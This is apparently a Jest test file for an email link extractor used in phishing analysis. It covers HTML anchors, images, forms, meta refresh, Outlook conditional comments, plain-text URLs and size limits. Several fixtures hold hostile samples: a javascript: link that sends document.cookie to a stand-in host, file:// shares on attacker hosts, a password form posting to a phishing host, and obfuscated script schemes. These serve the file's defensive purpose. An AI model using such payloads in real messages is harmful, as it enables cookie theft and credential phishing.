import fc from "fast-check";
import { DEFAULT_MAX_LINKS, extractLinks, MAX_TEXT_LENGTH, type ExtractedLink } from "./extract";

const html = (bodyHtml: string) => extractLinks({ bodyHtml }).links;
const text = (bodyText: string) => extractLinks({ bodyText }).links;
const a = (href: string, text: string): ExtractedLink => ({ href, source: "a", text });

describe("extractLinks: HTML", () => {
  it.each<[string, string, ExtractedLink[]]>([
    [
      "entities in hrefs",
      '<a href="https://x.org/?a=1&amp;b=2&#x26;c=3">go</a>',
      [a("https://x.org/?a=1&b=2&c=3", "go")],
    ],
    [
      "an entity name without ';' before '=' in an attribute stays as written",
      '<a href="https://x.org/?q=1&copy=2">go</a>',
      [a("https://x.org/?q=1&copy=2", "go")],
    ],
    ["entity-encoded scheme", '<a href="javascript&colon;alert(1)">x</a>', [a("javascript:alert(1)", "x")]],
    [
      "white space and line breaks in hrefs",
      '<a href="\n  https://x.org/a\n/b\t ">x</a><a href=" java\nscript:alert(1)">y</a>',
      [a("https://x.org/a/b", "x"), a("javascript:alert(1)", "y")],
    ],
    [
      "dangerous schemes kept as written",
      '<a href="JavaScript:void(0)">1</a><a href="data:text/html;base64,PHA+">2</a>' +
        '<a href="vbscript:msgbox(1)">3</a><a href="file://attacker.example/share/doc.lnk">4</a>',
      [
        a("JavaScript:void(0)", "1"),
        a("data:text/html;base64,PHA+", "2"),
        a("vbscript:msgbox(1)", "3"),
        a("file://attacker.example/share/doc.lnk", "4"),
      ],
    ],
    [
      "relative hrefs without a base stay as written",
      '<a href="/login">a</a><a href="//evil.example/x">b</a><a href="#top">c</a>',
      [a("/login", "a"), a("//evil.example/x", "b"), a("#top", "c")],
    ],
    [
      "relative hrefs resolve against <base>, wherever it stands; absolute ones do not change",
      '<a href="login?x=1">a</a><a href="HTTPS://Other.example">b</a><base href="https://evil.example/path/"><base href="https://second.example/">',
      [a("https://evil.example/path/login?x=1", "a"), a("HTTPS://Other.example", "b")],
    ],
    [
      "a relative base cannot resolve anything",
      '<base href="/root/"><a href="login">a</a>',
      [a("login", "a")],
    ],
    [
      "upper-case tags and attributes",
      '<A HREF="https://x.org/">Go</A><IMG SRC="JAVASCRIPT:x()" ALT="i">',
      [a("https://x.org/", "Go"), { href: "JAVASCRIPT:x()", source: "img", text: "i" }],
    ],
    [
      "the first of duplicate attributes wins",
      '<a href="https://good.org/" HREF="https://evil.example/">x</a>',
      [a("https://good.org/", "x")],
    ],
    [
      "nested markup: text collapsed, <br> and blocks separate words, inline tags do not",
      '<a href="https://x.org/"><span>  Pay</span><b>Pal</b><br>\n <div>account</div>   </a>',
      [a("https://x.org/", "PayPal account")],
    ],
    [
      "image-only link: the alt text is its text",
      '<a href="https://x.org/"><img src="cid:logo" alt="Microsoft"> <img src="cid:2" alt="Sign in"></a>',
      [a("https://x.org/", "Microsoft Sign in")],
    ],
    [
      "text beats alt text, and the linked web image is kept",
      '<a href="https://x.org/"><img src="https://img.example/b.png" alt="banner">Read more</a>',
      [
        a("https://x.org/", "Read more"),
        { href: "https://img.example/b.png", source: "img", text: "banner" },
      ],
    ],
    [
      "images: outside links only non-web sources count; data:image and cid: never",
      '<img src="https://track.example/p.gif"><img src="data:image/png;base64,AAAA"><img src="cid:image001.png@01D">' +
        '<img src="file://198.51.100.7/s/x.png"><img src="javascript:alert(1)"><img src="data:text/html,<b>">',
      [
        { href: "file://198.51.100.7/s/x.png", source: "img", text: "" },
        { href: "javascript:alert(1)", source: "img", text: "" },
        { href: "data:text/html,<b>", source: "img", text: "" },
      ],
    ],
    [
      "links in comments, scripts and styles are ignored, and script text is not link text",
      '<!-- <a href="https://c.example">c</a> --><script>document.write(\'<a href="https://s.example">\')</script>' +
        '<style>a[href="https://st.example"]{}</style><a href="https://x.org/">A<script>var t="B"</script>C</a>',
      [a("https://x.org/", "AC")],
    ],
    [
      "Outlook's conditional comments are read, with their VML buttons",
      '<!--[if mso]><v:roundrect href="https://mso.example/" arcsize="10%"><w:anchorlock/><center>Open  file</center></v:roundrect><![endif]-->' +
        '<!--[if !mso]><!--><a href="https://web.example/">Open file</a><!--<![endif]-->',
      [a("https://mso.example/", "Open file"), a("https://web.example/", "Open file")],
    ],
    [
      "a conditional fragment closes what it opens",
      '<!--[if gte mso 9]><a href="https://mso.example/">in<![endif]-->out',
      [a("https://mso.example/", "in")],
    ],
    [
      // Browsers carry an unclosed <a> past </div> (they reopen it), so "after" is link text too.
      "malformed: unclosed tags, unquoted attributes, a new <a> closing the open one",
      "<div><a href=https://one.example/a?b=1>one <a href='https://two.example/'>two</div><p>after",
      [a("https://one.example/a?b=1", "one"), a("https://two.example/", "two after")],
    ],
    [
      "an unclosed <a> ends with the document",
      '<a href="https://x.org/">tail text',
      [a("https://x.org/", "tail text")],
    ],
    [
      "an <a> without href is no link, but still closes the open one",
      '<a href="https://x.org/">x<a name="top">y</a>',
      [a("https://x.org/", "x")],
    ],
    [
      "self-closing syntax does not close an HTML element",
      '<a href="https://x.org/"/>text</a>',
      [a("https://x.org/", "text")],
    ],
    [
      "a relative image source takes the scheme of an earlier <base> (the first one counts)",
      '<img src="early.png"><base href="file://203.0.113.9/share/"><img src="logo.png"><base href="https://x.org/"><img src="a.png">',
      [
        { href: "file://203.0.113.9/share/logo.png", source: "img", text: "" },
        { href: "file://203.0.113.9/share/a.png", source: "img", text: "" },
      ],
    ],
    ["empty href", '<a href="">x</a><a href>y</a>', [a("", "x"), a("", "y")]],
    [
      "<link> is not clickable",
      '<link rel="stylesheet" href="https://css.example/a.css"><link rel=icon href="file://x/y">',
      [],
    ],
    [
      "area: alt text; a <base> applies",
      '<base href="https://base.example/"><map><area href="/a" alt=" Region  one "><area nohref alt="x"></map>',
      [{ href: "https://base.example/a", source: "area", text: "Region one" }],
    ],
  ])("%s", (_name, body, expected) => {
    expect(html(body)).toEqual(expected);
  });

  describe("meta refresh", () => {
    it.each([
      ['<meta http-equiv="refresh" content="0; url=https://evil.example/a">', "https://evil.example/a"],
      [`<META HTTP-EQUIV="Refresh" CONTENT="0;URL='https://evil.example/b'">`, "https://evil.example/b"],
      [
        '<meta http-equiv="refresh" content=\'5, URL = "https://evil.example/c" trailing\'>',
        "https://evil.example/c",
      ],
      ['<meta http-equiv=" refresh " content="3;https://evil.example/d">', "https://evil.example/d"],
      [
        '<meta http-equiv="refresh" content="0.5; url=https://evil.example/e?a=1&amp;b=2">',
        "https://evil.example/e?a=1&b=2",
      ],
    ])("%s", (body, href) => {
      expect(html(body)).toEqual([{ href, source: "meta-refresh", text: "" }]);
    });

    it.each([
      '<meta http-equiv="refresh" content="30">',
      '<meta http-equiv="refresh" content="url=https://x.org/">',
      '<meta http-equiv="refresh" content="0x; url=https://x.org/">',
      '<meta name="refresh" content="0; url=https://x.org/">',
      '<meta http-equiv="refresh">',
    ])("no link in %s", (body) => {
      expect(html(body)).toEqual([]);
    });

    it("resolves against <base>", () => {
      expect(html('<base href="https://b.example/"><meta http-equiv="refresh" content="0;url=/go">')).toEqual(
        [{ href: "https://b.example/go", source: "meta-refresh", text: "" }],
      );
    });
  });

  describe("forms", () => {
    const form = (href: string, text: string, method: string, hasPassword: boolean): ExtractedLink => ({
      href,
      source: "form",
      text,
      form: { method, hasPassword },
    });

    it.each<[string, string, ExtractedLink[]]>([
      [
        "password form posting elsewhere",
        '<form action="https://phish.example/owa/auth" METHOD="POST"><input name=u><input type="Password" name=p>' +
          '<button type="submit"><b>Sign</b> in</button><input type=submit value="Other"></form>',
        [form("https://phish.example/owa/auth", "Sign in", "post", true)],
      ],
      [
        "no action submits to the page itself, even with a base",
        '<base href="https://b.example/"><form><input type="submit"></form><form action=""><input type=image alt="Go"></form>',
        [form("", "Submit", "get", false), form("", "Go", "get", false)],
      ],
      [
        "a relative action resolves against <base>; unknown methods are GET",
        '<base href="https://b.example/x/"><form action="post.php" method="put"><button type=button>No</button>Text</form>',
        [form("https://b.example/x/post.php", "form", "get", false)],
      ],
      [
        "a form inside a form is ignored; its password field belongs to the outer one",
        '<form action="https://outer.example/"><form action="https://inner.example/"><input type=password></form><input type=password></form>',
        [form("https://outer.example/", "form", "get", true)],
      ],
      [
        "links inside a form come after it, in document order",
        '<form action="https://f.example/"><a href="https://help.example/">Help</a><input type=password></form>',
        [form("https://f.example/", "form", "get", true), a("https://help.example/", "Help")],
      ],
      [
        "an unclosed form ends with the document",
        '<form action="https://f.example/" method=post><input type=password><input type=submit value=" Log   in ">',
        [form("https://f.example/", "Log in", "post", true)],
      ],
      [
        "a password field outside any form is not a form",
        '<input type=password><a href="https://x.org/">x</a>',
        [a("https://x.org/", "x")],
      ],
    ])("%s", (_name, body, expected) => {
      expect(html(body)).toEqual(expected);
    });
  });

  it("dedupes exact duplicates but keeps each text for the same href", () => {
    expect(
      html(
        '<a href="https://x.org/">Pay</a><a href="https://x.org/">Pay</a><a href="https://x.org/">paypal.com</a>' +
          '<base href="https://x.org/"><a href="/">Pay</a>',
      ),
    ).toEqual([a("https://x.org/", "Pay"), a("https://x.org/", "paypal.com")]);
  });

  it("clips long text without splitting a surrogate pair", () => {
    const long = "word ".repeat(200);
    const [link] = html(`<a href="https://x.org/">${long}</a>`);
    expect(link.text.length).toBe(MAX_TEXT_LENGTH);
    expect(link.text.endsWith("…")).toBe(true);
    const emoji = html(`<a href="https://x.org/">${"😀".repeat(400)}</a>`)[0].text;
    expect(emoji.length).toBeLessThanOrEqual(MAX_TEXT_LENGTH);
    expect(emoji).toBe(`${"😀".repeat(149)}…`);
  });
});

describe("extractLinks: plain text", () => {
  it.each<[string, string, [string, string][]]>([
    [
      "scheme URLs",
      "Visit https://example.org/a?b=1#c now",
      [["https://example.org/a?b=1#c", "https://example.org/a?b=1#c"]],
    ],
    ["www. gets http://", "Go to www.example.com today", [["http://www.example.com", "www.example.com"]]],
    [
      "bare domains too",
      "Log in at paypal-secure.com/login",
      [["http://paypal-secure.com/login", "paypal-secure.com/login"]],
    ],
    [
      "trailing punctuation is not part of the URL",
      "See https://example.org/a. Or (https://example.org/b), or <https://example.org/c>!",
      [
        ["https://example.org/a", "https://example.org/a"],
        ["https://example.org/b", "https://example.org/b"],
        ["https://example.org/c", "https://example.org/c"],
      ],
    ],
    [
      "balanced parentheses stay",
      "https://en.wikipedia.org/wiki/Fancy_(bear)",
      [["https://en.wikipedia.org/wiki/Fancy_(bear)", "https://en.wikipedia.org/wiki/Fancy_(bear)"]],
    ],
    [
      "e-mail addresses are not URLs; mailto: is",
      "mail a@b.org or mailto:c@d.org",
      [["mailto:c@d.org", "mailto:c@d.org"]],
    ],
    ["prose is no link", "Thanks. See you at 10:30, e.g. tomorrow: bye.", []],
  ])("%s", (_name, body, expected) => {
    expect(text(body)).toEqual(expected.map(([href, t]) => ({ href, source: "text", text: t })));
  });

  it("adds text-body URLs the HTML body does not link to", () => {
    const { links } = extractLinks({
      bodyHtml: '<a href="https://example.org/a">A</a>',
      bodyText: "A <https://example.org/a>, also HTTPS://EXAMPLE.ORG/a and www.other.org",
    });
    expect(links).toEqual([
      a("https://example.org/a", "A"),
      { href: "http://www.other.org", source: "text", text: "www.other.org" },
    ]);
  });

  it("reads URLs written in an HTML-only body's visible text, when given it", () => {
    const { links } = extractLinks(
      {
        bodyHtml:
          '<p>Bonus today!</p><p>https://bonus-site.io</p><a href="https://x.org/">https://x.org/</a>',
      },
      { visibleText: () => "Bonus today! https://bonus-site.io https://x.org/" },
    );
    expect(links).toEqual([
      a("https://x.org/", "https://x.org/"),
      { href: "https://bonus-site.io", source: "text", text: "https://bonus-site.io" },
    ]);
  });

  it("does not take a link's own text, written as a URL, for another link", () => {
    const { links } = extractLinks(
      { bodyHtml: '<a href="https://evil.example/x">https://www.paypal.com/signin</a>' },
      { visibleText: () => "https://www.paypal.com/signin" },
    );
    expect(links.map((l) => [l.source, l.href])).toEqual([["a", "https://evil.example/x"]]);
  });

  it("prefers the plain-text body to the HTML body's visible text", () => {
    const { links } = extractLinks(
      { bodyHtml: "<p>https://shown.org</p>", bodyText: "https://plain.org" },
      { visibleText: () => "https://shown.org" },
    );
    expect(links.map((l) => l.href)).toEqual(["https://plain.org"]);
  });

  it("keeps each spelling of one URL in text once", () => {
    expect(text("https://x.org/ https://x.org/ HTTPS://X.ORG/").map((l) => l.text)).toEqual([
      "https://x.org/",
      "HTTPS://X.ORG/",
    ]);
  });
});

describe("extractLinks: realistic messages", () => {
  it("a marketing email", () => {
    const body = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Spring newsletter</title>
<style>.btn{background:#0645ad} a[href^="http"]{color:red}</style></head>
<body><table role="presentation" width="100%"><tr><td align="center">
<a href="https://click.mail.example-party.org/?qs=abc&amp;utm_source=newsletter"><img src="https://img.example-party.org/logo.png" alt="Example Party" width="120"></a>
<h1>Spring update</h1><p>Read our <a href="https://example-party.org/blog/spring?utm_campaign=spring&amp;utm_medium=email">spring   plans</a>.</p>
<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="https://example-party.org/donate" style="height:40px"><w:anchorlock/><center>Donate</center></v:roundrect><![endif]-->
<!--[if !mso]><!-- --><a class="btn" href="https://example-party.org/donate">Donate</a><!--<![endif]-->
<img src="https://open.example-party.org/o.gif?u=42" width="1" height="1" alt="">
<p style="font-size:11px"><a href="https://example-party.org/unsubscribe?u=42">Unsubscribe</a> | <a href="mailto:info@example-party.org">Contact</a></p>
</td></tr></table></body></html>`;
    const { links, truncated } = extractLinks({
      bodyHtml: body,
      bodyText:
        "Spring update\nRead our spring plans: https://example-party.org/blog/spring?utm_campaign=spring&utm_medium=email\nDonate: https://example-party.org/donate",
    });
    expect(truncated).toBe(false);
    expect(links).toEqual([
      a("https://click.mail.example-party.org/?qs=abc&utm_source=newsletter", "Example Party"),
      { href: "https://img.example-party.org/logo.png", source: "img", text: "Example Party" },
      a("https://example-party.org/blog/spring?utm_campaign=spring&utm_medium=email", "spring plans"),
      a("https://example-party.org/donate", "Donate"),
      a("https://example-party.org/unsubscribe?u=42", "Unsubscribe"),
      a("mailto:info@example-party.org", "Contact"),
    ]);
  });

  it("a phishing email", () => {
    const body = `<html><head><base href="https://senate-gov.sharepoint-docs.example/s/"></head><body>
<p>Dear staffer,</p><p>A document was shared with you: <a href="https://www.senate.gov/documents/Q3-budget.pdf">https://www.senate.gov/documents/Q3-budget.pdf</a></p>
<p>Actually it goes <A HREF="view.aspx?id=7&amp;e=staff%40senate.gov">here</A>.</p>
<form action="https://login-microsoftonline.example/common/oauth2" method="post">
<input type="email" name="login" value="staff@senate.gov"><input type="password" name="passwd"><input type="submit" value="Sign in"></form>
<img src="file://203.0.113.9/share/logo.png" alt="">
<a href="java&#x09;script:location='https://x.example/'+document.cookie">Open in Outlook</a>
</body></html>`;
    expect(extractLinks({ bodyHtml: body }).links).toEqual([
      a("https://www.senate.gov/documents/Q3-budget.pdf", "https://www.senate.gov/documents/Q3-budget.pdf"),
      a("https://senate-gov.sharepoint-docs.example/s/view.aspx?id=7&e=staff%40senate.gov", "here"),
      {
        href: "https://login-microsoftonline.example/common/oauth2",
        source: "form",
        text: "Sign in",
        form: { method: "post", hasPassword: true },
      },
      { href: "file://203.0.113.9/share/logo.png", source: "img", text: "" },
      a("javascript:location='https://x.example/'+document.cookie", "Open in Outlook"),
    ]);
  });
});

describe("extractLinks: limits and hostile input", () => {
  const MB = 1024 * 1024;

  /** About `bytes` of newsletter HTML with `count` distinct links. */
  function bigBody(count: number, bytes: number): string {
    const rows: string[] = [];
    for (let i = 0; i < count; i++)
      rows.push(
        `<tr><td><a href="https://news.example.org/story/${i}?utm_source=mail&amp;n=${i}"><span>Story ${i}</span></a></td></tr>`,
      );
    const table = `<html><body><table>${rows.join("\n")}</table>`;
    const filler = `<p style="color:#333">${"Lorem ipsum dolor sit amet, consectetur adipiscing elit. ".repeat(20)}</p>\n`;
    return (
      table + filler.repeat(Math.max(0, Math.ceil((bytes - table.length) / filler.length))) + "</body></html>"
    );
  }

  it("extracts all 2,000 links of a 5 MB body (the cap), and stops at the cap after that", () => {
    expect(DEFAULT_MAX_LINKS).toBe(2_000);
    const body = bigBody(DEFAULT_MAX_LINKS, 5 * MB);
    expect(body.length).toBeGreaterThanOrEqual(5 * MB);
    const all = extractLinks({ bodyHtml: body });
    expect(all.truncated).toBe(false);
    expect(all.links).toHaveLength(2_000);
    expect(all.links[1_999]).toEqual(
      a("https://news.example.org/story/1999?utm_source=mail&n=1999", "Story 1999"),
    );

    const over = extractLinks({ bodyHtml: bigBody(DEFAULT_MAX_LINKS + 1, 5 * MB) });
    expect(over.truncated).toBe(true);
    expect(over.links).toHaveLength(2_000);
  });

  it("counts distinct links against maxLinks, HTML and text together", () => {
    const links = '<a href="https://x.org/1">1</a>'.repeat(50) + '<a href="https://x.org/2">2</a>';
    expect(extractLinks({ bodyHtml: links }, { maxLinks: 2 })).toEqual({
      links: [a("https://x.org/1", "1"), a("https://x.org/2", "2")],
      truncated: false,
    });
    expect(extractLinks({ bodyHtml: links, bodyText: "https://x.org/3" }, { maxLinks: 2 }).truncated).toBe(
      true,
    );
    expect(extractLinks({ bodyHtml: links }, { maxLinks: 0 })).toEqual({ links: [], truncated: true });
    expect(extractLinks({ bodyHtml: links }, { maxLinks: Number.NaN }).links).toHaveLength(2);
  });

  it("stays linear where htmlparser2's Parser is quadratic: 1 MB of unclosed tags, then a link", () => {
    const body = "<b>".repeat(200_000) + "</i>".repeat(100_000) + '<a href="https://x.org/">end</a>';
    expect(html(body)).toEqual([a("https://x.org/", "end")]);
  });

  it("takes a 1 MB href whole and clips a 1 MB text", () => {
    const href = `data:text/html;base64,${"QUJD".repeat(256 * 1024)}`;
    const [link] = html(`<a href="${href}">${"x ".repeat(512 * 1024)}</a>`);
    expect(link.href).toBe(href);
    expect(link.text).toHaveLength(MAX_TEXT_LENGTH);
  });

  it("survives bodies that are not strings and messages that are not objects", () => {
    expect(extractLinks({ bodyHtml: 42 as unknown as string, bodyText: null as unknown as string })).toEqual({
      links: [],
      truncated: false,
    });
    expect(extractLinks(undefined as unknown as { bodyHtml?: string })).toEqual({
      links: [],
      truncated: false,
    });
  });

  const hrefTrimmed = (links: ExtractedLink[]) => {
    for (const link of links) {
      expect(typeof link.href).toBe("string");
      expect(link.href).toBe(link.href.trim());
      expect(link.text.length).toBeLessThanOrEqual(MAX_TEXT_LENGTH);
    }
  };

  it("never throws on arbitrary strings, and every href is trimmed", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: "binary", maxLength: 400 }),
        fc.string({ unit: "binary", maxLength: 400 }),
        (h, t) => hrefTrimmed(extractLinks({ bodyHtml: h, bodyText: t }).links),
      ),
      { numRuns: 500 },
    );
  });

  it("never throws on HTML-like soup, and every href is trimmed", () => {
    const piece = fc.oneof(
      fc.constantFrom(
        "<a href=",
        "<A HREF='",
        "<area href=",
        "<img src=",
        "<form action=",
        "<input type=password>",
        "<button>",
        "</button>",
        "</form>",
        "<base href=",
        '<meta http-equiv=refresh content="0;url=',
        "</a>",
        "<!--",
        "-->",
        "<!--[if mso]>",
        "<![endif]-->",
        "<v:rect href=",
        "<script>",
        "</script>",
        "<style>",
        "<br>",
        '"',
        "'",
        ">",
        "<",
        "/",
        "&amp;",
        "&#10;",
        "&#x0;",
        "&#xD800;",
        "&#99999999;",
        "\u00a0",
        "\u3000",
        " ",
        "\n",
        "\t",
        "javascript:",
        "https://x.org/",
        "www.x.com",
        "data:image/png,",
        "file://h/s",
        "..",
        "?#",
      ),
      fc.string({ unit: "binary", maxLength: 6 }),
    );
    const soup = fc.array(piece, { maxLength: 60 }).map((p) => p.join(""));
    fc.assert(
      fc.property(soup, soup, (h, t) => hrefTrimmed(extractLinks({ bodyHtml: h, bodyText: t }).links)),
      { numRuns: 300 },
    );
  });
});
